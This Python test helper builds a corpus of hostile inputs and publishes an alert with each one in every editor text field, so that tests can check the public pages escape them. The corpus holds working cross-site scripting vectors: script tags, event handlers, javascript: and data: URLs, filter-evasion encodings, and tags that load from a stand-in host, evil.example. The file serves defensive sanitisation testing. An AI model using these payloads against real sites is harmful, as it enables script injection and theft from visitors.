"""A corpus of hostile editor input, and a builder that puts it in every editor text field.

Used by tests/alerts/public/test_hostile_input.py (every page, parsed) and by the browser
test tests/browser/test_public_hostile.py (no script runs in a real browser).
"""

from alerts import workflow
from alerts.editing import revision
from alerts.models import Alert, Citation, Level, Recommendation, StageEvidence, StageRating
from sources.models import Source
from stages.models import Country, Stage
from tests.alerts.workflow_helpers import publish
from tests.builders import make_alert, make_reviewer

# Each would run script, load something, restyle the page or break its structure if
# it reached the page as markup. A browser test watches for window.__pwned.
CORPUS = [
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.__pwned=1>",
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    '<iframe src="javascript:window.__pwned=1"></iframe>',
    "[click me](javascript:window.__pwned=1)",
    "[click me](JaVaScRiPt:window.__pwned=1)",
    "[click me](  javascript:window.__pwned=1  )",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click me](vbscript:msgbox(1))",
    "[click me](&#106;avascript:window.__pwned=1)",
    "[click me](javascript&colon;window.__pwned=1)",
    '<a href="&#x6A;avascript:window.__pwned=1">click me</a>',
    "<javascript:window.__pwned=1>",
    "![tracker](https://evil.example/pixel.png)",
    "![x](javascript:window.__pwned=1)",
    '[x](https://example.org "t\\" onmouseover=\\"window.__pwned=1")',
    '<div style="background:url(javascript:window.__pwned=1)">styled</div>',
    "<style>body{display:none}</style>",
    "<b onmouseover=window.__pwned=1>hover me</b>",
    '"><script>window.__pwned=1</script>',
    "'><img src=x onerror=window.__pwned=1>",
    "</textarea><script>window.__pwned=1</script>",
    "</title><script>window.__pwned=1</script>",
    "<!--<script>window.__pwned=1</script>-->",
    '<form action="https://evil.example"><input name=x><button>Go</button></form>',
    '<object data="javascript:window.__pwned=1"></object>',
    '<embed src="javascript:window.__pwned=1">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<details open ontoggle=window.__pwned=1>",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "`<script>window.__pwned=1</script>`",
    "```\n<script>window.__pwned=1</script>\n```",
    "| a | b |\n|---|---|\n| <script>window.__pwned=1</script> | <img src=x onerror=1> |",
    "{{ 7|add:7 }} {% debug %} ${7*7} #{7*7}",
    "Supercalifragilistic" * 60,  # one very long word
    "\u202eevil.exe\u202c and \u2066isolated\u2069 right-to-left override",
    "**unbalanced _markdown [link( `code <b>",
    "> quote\n>> nested\n- list\n  - deeper [also unbalanced",
    "\x07\x08 control characters \u200b zero width \ufeff BOM",
    "Z̷̢̛a̸̛l̴g̷o̶ t̷e̴x̷t̸ \U0001f525" * 3,
]


def _trim(value, length):
    """For a one-line field (an <input> in the admin, which cannot hold a line break)."""
    return " ".join(value.splitlines())[:length] or "x"


def hostile_alert(editor, value, number):
    """Publish an alert with ``value`` in every editor text field; returns its slug.

    It has a country and a source of its own whose names are hostile too, is updated
    once with a hostile change note, and a second alert is withdrawn with a hostile
    reason. Citation markers are appended where the workflow requires them.
    """
    slug = f"hostile-{number}"
    country = Country.objects.create(
        name=f"{_trim(value, 100)} #{number}",
        slug=slug,
        region=_trim(value, 80),
        aliases=_trim(value, 300),
    )
    source = Source.objects.create(
        title=_trim(value, 300),
        publisher=_trim(value, 200),
        # Not valid through the admin; stored anyway, to prove the page makes no link.
        url="javascript:window.__pwned=1",
        archive_url="javascript:window.__pwned=1",
    )
    alert = make_alert(author=editor, title="placeholder", slug=slug, level=Level.WARNING)
    with revision(user=editor, comment="Hostile content"):
        alert = Alert.objects.get(pk=alert.pk)
        alert.title = _trim(value, 200)
        alert.summary = f"{value} [1]"
        alert.background = f"{value} [2]"
        alert.legal_analysis = value
        alert.assessment = value
        alert.save()
        alert.countries.add(country)
        StageRating.objects.create(
            alert=alert,
            country=country,
            stage=Stage.objects.get(number=7),
            rationale=f"{value} [1]",
        )
        for rating in alert.ratings.all():
            rating.rationale = f"{value} [1]"
            rating.save()
        StageEvidence.objects.create(
            alert=alert, stage=Stage.objects.get(number=7), country=country, text=value
        )
        for evidence in alert.evidence.all():
            evidence.text = value
            evidence.save()
        Recommendation.objects.filter(alert=alert).delete()
        Recommendation.objects.create(
            alert=alert, position=1, addressee=_trim(value, 200), action=value
        )
        first = Citation.objects.get(alert=alert, number=1)
        first.locator = _trim(value, 200)
        first.quote = value
        first.save()
        Citation.objects.create(alert=alert, source=source, number=3, locator=_trim(value, 200))
    publish(alert, editor=editor)
    with revision(user=editor, comment="Hostile update"):
        alert.assessment = f"{value} (updated)"
        alert.save()
    publish(alert, editor=editor, change_kind="correction", change_note=value)

    gone = publish(make_alert(author=editor, slug=f"gone-{number}"), editor=editor)
    workflow.withdraw(alert=gone.alert, user=make_reviewer(), reason=value)
    return slug
